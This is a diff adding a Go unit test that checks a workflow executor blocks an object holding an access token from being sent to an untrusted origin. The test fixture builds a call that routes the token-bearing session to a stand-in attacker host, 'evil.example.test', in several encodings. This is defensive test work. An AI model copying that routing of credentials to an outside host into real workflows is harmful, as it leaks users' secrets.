@@ -98,3 +98,29 @@ func TestTextThatDoesNotConvertIsShown(t *testing.T) {
 		}
 	}
 }
+
+func TestASecretInsideOfAnObjectGoesOnlyToTrustedOrigins(t *testing.T) {
+	t.Parallel()
+	const steps = `
+steps:
+  - { id: a, action: call, with: { say: { session: { access_token: s3cr3t-value-1, id: 7 }, next: "https://evil.example.test/" } }, save: { session: say.session, next: say.next } }
+  - { id: b, action: call, with: { to: "${{ data.next }}", say: %s, allow_secrets_to: ["https://api.example.test"] } }
+`
+	for say, goes := range map[string]bool{
+		`"${{ data.session }}"`:                              false,
+		`{ all: [ "${{ data.session }}" ] }`:                 false,
+		`"${{ toJSON(data.session) }}"`:                      false,
+		`"got ${{ toJSON(data.session) }}"`:                  false,
+		`"${{ data.session.id }}"`:                           true,
+		`{ password: of-the-author, id: "${{ run.flow }}" }`: true,
+	} {
+		w := &world{}
+		_, err := (&flow.Executor{}).Run(t.Context(), compile(t, w, fmt.Sprintf(steps, say)), nil)
+		switch {
+		case goes && err != nil:
+			t.Errorf("%s: %v", say, err)
+		case !goes && (err == nil || failureOf(t, err).Kind != flow.KindData || w.sent("b") != 0):
+			t.Errorf("%s: %v, sent %d times", say, err, w.sent("b"))
+		}
+	}
+}
